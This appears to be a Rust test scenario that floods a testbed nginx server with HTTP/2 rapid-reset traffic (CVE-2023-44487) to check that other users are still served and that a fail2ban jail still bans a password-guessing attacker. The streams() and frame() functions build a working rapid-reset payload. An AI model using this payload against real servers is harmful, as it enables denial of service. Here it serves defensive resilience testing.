//! HTTP/2 streams, opened and reset as fast as they can be sent (CVE-2023-44487).

use anyhow::{Context, Result};

use crate::client::Raw;
use crate::scenario::{Scenario, Stage};
use crate::stack::{JAIL, MAXRETRY, guess_until_cut, prove_banned};
use crate::testbed::{Break, Fault};

/// Streams on each connection.
const STREAMS: u32 = 5000;

const CONNECTIONS: usize = 16;

/// HTTP/2 without TLS on the second of the two public ports, so that the scenario needs no
/// certificate; the same server block otherwise.
const HTTP2: &str = "server {\n    listen 443 default_server;\n    http2 on;\n    server_name _;\n    \
                     include /etc/nginx/fmd-stack/server.conf;\n}\n";

inventory::submit! {
    Scenario {
        name: "rapid-reset",
        proves: "80,000 HTTP/2 streams reset at once: others are served and the jail works on",
        settings: &[("etc/nginx/conf.d/zz-scenario.conf", HTTP2)],
        needs: &[],
        clients: 2,
        run: |stage| Box::pin(run(stage)),
        faults: &[
            Fault {
                name: "filter-matches-nothing",
                breaks: Break::Replace {
                    file: "etc/fail2ban/filter.d/fmd-server.conf",
                    find: "failed login attempt",
                    with: "no such message",
                },
                noticed_as: "still get in",
            },
        ],
    }
}

async fn run(stage: &Stage) -> Result<()> {
    let bystander = stage.person("bystander").await?;
    bystander.register("alice").await?;
    let attacker = stage.person("attacker").await?;
    let raw = Raw {
        address: stage.testbed().server().addresses().v4.into(),
        port: 443,
        connections: CONNECTIONS,
        opening: streams(),
        then: Vec::new(),
        every_ms: 1000,
        // Each ends when nginx has had enough of it; an emulated machine needs seconds for 16.
        for_ms: 20_000,
    };
    let (resets, served) = tokio::join!(attacker.drip(raw), async {
        // With the registration no more than nginx lets through at once.
        for _ in 0..MAXRETRY - 1 {
            bystander.log_in("alice").await.context("the bystander")?;
        }
        anyhow::Ok(())
    });
    let resets = resets?;
    served?;
    let answered = resets
        .iter()
        .filter(|connection| connection.received > 0)
        .count();
    anyhow::ensure!(
        answered == CONNECTIONS,
        "only {answered} connections spoke HTTP/2"
    );
    let ended = resets.iter().filter(|connection| connection.closed).count();
    stage.note(format!("nginx ended {ended} of {CONNECTIONS} connections"));
    guess_until_cut(&attacker, MAXRETRY, |_| "alice".to_owned()).await?;
    prove_banned(stage, &attacker, JAIL).await.map(drop)
}

/// A connection's bytes: preface, settings, then each stream opened and reset (RFC 9113).
fn streams() -> Vec<u8> {
    // :method GET, :scheme http, :path /, :authority x (RFC 7541, appendix A).
    const HEADERS: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'x'];
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(4, 0, 0, &[]));
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        bytes.extend(frame(1, 0x5, stream, &HEADERS));
        bytes.extend(frame(3, 0, stream, &CANCEL));
    }
    bytes
}

/// A frame of this type, with these flags, on this stream.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
